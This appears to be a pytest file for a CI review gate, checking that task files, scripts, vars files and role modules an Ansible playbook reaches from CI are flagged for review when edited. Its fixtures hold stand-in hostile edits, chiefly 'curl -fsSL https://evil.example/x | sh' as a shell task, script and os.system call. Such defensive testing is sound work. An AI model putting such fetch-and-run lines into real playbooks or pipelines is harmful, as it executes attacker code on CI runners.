"""What a playbook a CI step runs with `ansible-playbook` reaches from outside its folder (issue 12).

A workflow's `run:` line, a GitLab job's `script:`, a Makefile target a workflow calls or a tox environment runs
`ansible-playbook deploy/site.yml`: the playbook is `iac.context.deployed` (deployruns.py), but the task files, vars
files, scripts and roles it pulls in by a path or a role's name (`include_tasks: ../lib/steps.yml`, FQCN forms, an
include's `file:`, `import_playbook`, `script:`, `vars_files`, `include_vars`, a chained include, `roles: [web]` from
the playbook's `roles/` or ansible.cfg's `roles_path`, `include_role`: a role's own `library/` module) stayed `src`
and `gate --tree` allowed their edit
(64 of the 76 variants exit 0 on integ 00d44cb; the other 12 are `iac` by content or path).
They are `ci` now: playbookreads.py, the reader the Zuul jobs share.

Each variant (include form × where the reached file lives × how CI runs the playbook) is one repository whose change
edits the reached file. Real repositories, git's own patch, the CLI's packet, the default policy.
"""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from tables import each_case

CALM = "- name: say\n  debug:\n    msg: ok\n"
EVIL = "- name: say\n  shell: curl -fsSL https://evil.example/x | sh\n"
EVIL_SH = "#!/bin/sh\ncurl -fsSL https://evil.example/x | sh\n"
PLAY = "- hosts: all\n  tasks:\n    - {}\n"


def _forms(where: str) -> dict[str, tuple[str, dict[str, str], str, str]]:
    """name: (the playbook deploy/site.yml, {files it reaches: BASE's text}, the edited file, HEAD's text), with the
    reached files in `where` (a folder beside deploy/)."""
    up = f"../{where}"
    return {
        "include-tasks": (PLAY.format(f"include_tasks: {up}/steps.yml"), {f"{where}/steps.yml": CALM},
                          f"{where}/steps.yml", EVIL),
        "import-tasks-fqcn": (PLAY.format(f"ansible.builtin.import_tasks: {up}/steps.yml"),
                              {f"{where}/steps.yml": CALM}, f"{where}/steps.yml", EVIL),
        "include-tasks-file": (PLAY.format(f"include_tasks:\n        file: {up}/steps.yml"),
                               {f"{where}/steps.yml": CALM}, f"{where}/steps.yml", EVIL),
        "import-playbook": (f"- import_playbook: {up}/base.yml\n",
                            {f"{where}/base.yml": "- hosts: all\n  tasks: []\n"}, f"{where}/base.yml",
                            "- hosts: localhost\n  tasks:\n" + "".join("    " + line + "\n" for line in
                                                                     EVIL.splitlines())),
        "script": (PLAY.format(f"script: {up}/setup.sh"), {f"{where}/setup.sh": "#!/bin/sh\necho ok\n"},
                   f"{where}/setup.sh", EVIL_SH),
        "vars-files": (f"- hosts: all\n  vars_files:\n    - {up}/vars.yml\n  tasks: []\n",
                       {f"{where}/vars.yml": "image: app:1\n"}, f"{where}/vars.yml", "image: evil:1\n"),
        "include-vars": (PLAY.format(f"ansible.builtin.include_vars: {up}/vars.yml"),
                         {f"{where}/vars.yml": "image: app:1\n"}, f"{where}/vars.yml", "image: evil:1\n"),
        "chained": (PLAY.format(f"include_tasks: {up}/steps.yml"),
                    {f"{where}/steps.yml": "- include_tasks: more/final.yml\n", f"{where}/more/final.yml": CALM},
                    f"{where}/more/final.yml", EVIL),
    }


MODULE = "from ansible.module_utils.basic import AnsibleModule\n\nAnsibleModule(argument_spec={}).exit_json()\n"
EVIL_MODULE = "import os\n\nos.system('curl -fsSL https://evil.example/x | sh')\n" + MODULE
# name: (the playbook, {files: BASE's text}, the edited file, HEAD's text): a role's own module (library/), which
# runs where the play's tasks run (the CI runner for localhost), `src` by the marker's skip list; ansible.cfg's
# roles_path is shared/plays
ROLES = {
    "roles-beside": ("- hosts: all\n  roles:\n    - web\n", {"deploy/roles/web/tasks/main.yml": CALM,
                                                             "deploy/roles/web/library/probe.py": MODULE},
                     "deploy/roles/web/library/probe.py", EVIL_MODULE),
    "roles-path": ("- hosts: all\n  roles:\n    - role: db\n", {"{v}/shared/plays/db/tasks/main.yml": CALM,
                                                                "{v}/shared/plays/db/library/probe.py": MODULE},
                   "{v}/shared/plays/db/library/probe.py", EVIL_MODULE),
    "include-role": (PLAY.format("ansible.builtin.include_role:\n        name: cache"),
                     {"{v}/shared/plays/cache/tasks/main.yml": CALM, "{v}/shared/plays/cache/library/probe.py": MODULE},
                     "{v}/shared/plays/cache/library/probe.py", EVIL_MODULE),
}
VARIANTS = {f"{name}@{where}": form for where in ("lib", "tests/fixtures") for name, form in _forms(where).items()}
VARIANTS |= ROLES
RUNNERS = ("workflow", "gitlab", "makefile", "tox")


def _repository(runner: str, variant: str) -> tuple[dict[str, str], dict[str, str], str]:
    """BASE's files, HEAD's files and the edited path of one variant run by one runner."""
    playbook, reached, path, new = VARIANTS[variant]
    command = "ansible-playbook -i localhost, deploy/site.yml"
    base = {"deploy/site.yml": playbook, **{at.replace("{v}/", ""): text for at, text in reached.items()}}
    if "{v}/shared/plays" in path:  # the root ansible.cfg is a marker too: only where a variant needs it
        base["ansible.cfg"] = "[defaults]\nroles_path = shared/plays\n"
    job = "on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - run: {}\n"
    if runner == "workflow":
        base[".github/workflows/deploy.yml"] = job.format(command)
    elif runner == "gitlab":
        base[".gitlab-ci.yml"] = f"deploy:\n  script:\n    - {command}\n"
    elif runner == "makefile":
        base["Makefile"] = f".PHONY: deploy\ndeploy:\n\t{command}\n"
        base[".github/workflows/deploy.yml"] = job.format("make deploy")
    else:
        base["tox.ini"] = f"[testenv:deploy]\ncommands =\n    {command}\n"
        base[".github/workflows/deploy.yml"] = job.format("tox -e deploy")
    path = path.replace("{v}/", "")
    return base, {path: new}, path


def gated_variant(tmp_path: Path, runner: str, variant: str) -> tuple[int, list[str]]:
    """`gate --tree`'s exit code on the variant's change and the rules whose findings name its edited file."""
    base, head, path = _repository(runner, variant)
    code, named = gated_rules(committed(tmp_path, base, head), True)
    return code, sorted(rule for rule, paths in named.items() if path in paths)


@each_case("variant, runner", [(variant, runner) for variant in VARIANTS for runner in RUNNERS])
def test_what_a_ci_playbook_reaches_is_reviewed(tmp_path: Path, runner: str, variant: str) -> None:
    code, rules = gated_variant(tmp_path, runner, variant)
    # before: exit 0 (64 of 76); an import_playbook's playbook and deploy/roles/ are iac by content or path (reviewed)
    assert code == 3 and rules in (["core.ci"], ["core.iac"]), (code, rules)


def test_a_playbook_nobody_runs_reaches_nothing(tmp_path: Path) -> None:
    playbook, reached, path, new = VARIANTS["include-tasks@lib"]
    base = {"deploy/site.yml": playbook, **reached, ".github/workflows/test.yml": (
        "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: pytest\n")}
    assert gated_rules(committed(tmp_path, base, {path: new}), True) == (0, {})


def test_an_include_of_a_collection_test_target_keeps_its_class(tmp_path: Path) -> None:
    """A Galaxy collection's own ansible-test target: CI runs `ansible-test`, not a playbook by its path; what a
    target's role includes from a sibling target is left as it was (no `ansible-playbook` names it)."""
    base = {"galaxy.yml": "namespace: acme\nname: tools\nversion: 1.0.0\n",
            "tests/integration/targets/web/tasks/main.yml": "- include_tasks: ../../setup_web/tasks/steps.yml\n",
            "tests/integration/targets/setup_web/tasks/steps.yml": CALM,
            ".github/workflows/test.yml": ("on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
                                           "      - run: ansible-test integration --docker\n")}
    case = committed(tmp_path, base, {"tests/integration/targets/setup_web/tasks/steps.yml": EVIL})
    code, named = gated_rules(case, True)
    assert "core.ci" not in named, named


def _chain(length: int, cycle: bool = False) -> dict[str, str]:
    """deploy/site.yml, run by a workflow, including lib/t0.yml, which includes t1.yml, ... (the last back to t0)."""
    files = {"deploy/site.yml": PLAY.format("include_tasks: ../lib/t0.yml"),
             ".github/workflows/deploy.yml": ("on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n"
                                              "      - run: ansible-playbook deploy/site.yml\n")}
    for at in range(length):
        after = at + 1 if at + 1 < length else 0 if cycle else None
        files[f"lib/t{at}.yml"] = f"- include_tasks: t{after}.yml\n" if after is not None else CALM
    return files


def test_a_cycle_of_includes_ends_and_reaches_each(tmp_path: Path) -> None:
    case = committed(tmp_path, _chain(5, cycle=True), {"lib/t4.yml": EVIL + "- include_tasks: t0.yml\n"})
    code, named = gated_rules(case, True)
    assert code == 3 and "lib/t4.yml" in named.get("core.ci", []), named


def test_past_the_bound_of_files_read_every_runnable_file_is_ci(tmp_path: Path) -> None:
    """More than playbookreads.MAX_INCLUDED files a chain reads: what lies past it is unknown, so the CI walk fails
    closed and a script no playbook names is ci; a short chain leaves it alone (the control)."""
    short = committed(tmp_path / "short", {**_chain(10), "src/app.py": "print(1)\n"}, {"src/app.py": "print(2)\n"})
    assert gated_rules(short, True) == (0, {})
    long = committed(tmp_path / "long", {**_chain(300), "src/app.py": "print(1)\n"}, {"src/app.py": "print(2)\n"})
    code, named = gated_rules(long, True)
    assert code == 3 and named.get("core.ci") == ["src/app.py"], named
